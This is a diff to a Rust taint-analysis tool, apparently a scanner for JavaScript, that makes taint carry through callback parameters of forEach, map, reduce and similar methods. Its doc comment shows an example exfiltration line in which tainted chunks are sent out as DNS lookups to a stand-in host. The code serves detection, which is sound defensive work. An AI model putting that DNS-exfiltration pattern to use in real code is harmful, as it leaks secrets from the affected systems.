@@ -524,6 +524,33 @@ impl<'s> Collector<'s> {
         }
     }
 
+    /// `tainted.forEach((chunk, i) => dns.lookup(chunk + '.x.example'))`: the element
+    /// parameter of an iteration callback carries the receiver's taint (the accumulator and
+    /// element of `reduce` too), so data split into chunks is still followed.
+    fn taint_callback_params(&mut self, call: &CallExpression<'_>) {
+        let Expression::StaticMemberExpression(m) = &call.callee else {
+            return;
+        };
+        let method = m.property.name.as_str();
+        let params = match method {
+            "forEach" | "map" | "flatMap" | "filter" | "some" | "every" | "find" | "then" => 1,
+            "reduce" | "reduceRight" => 2,
+            _ => return,
+        };
+        let params_list = match call.arguments.first() {
+            Some(Argument::ArrowFunctionExpression(f)) => &f.params,
+            Some(Argument::FunctionExpression(f)) => &f.params,
+            _ => return,
+        };
+        let t = self.taint_of(&m.object, 0);
+        if t == 0 {
+            return;
+        }
+        for p in params_list.items.iter().take(params) {
+            self.taint_pattern(&p.pattern, t, 0);
+        }
+    }
+
     /// `x = v`, `x += v`, `o.k = v`, `o[k] = v`: the assigned root binding takes `v`'s taint.
     fn taint_assignment(&mut self, a: &AssignmentExpression<'_>) {
         let mut target: Option<&Expression<'_>> = None;
@@ -869,6 +896,7 @@ impl<'a> Visit<'a> for Collector<'_> {
 
     fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
         self.on_call(it);
+        self.taint_callback_params(it);
         // Whole-object reads of `process.env` passed as an argument.
         let keys_only = matches!(&it.callee, Expression::StaticMemberExpression(m)
             if m.property.name == "keys"
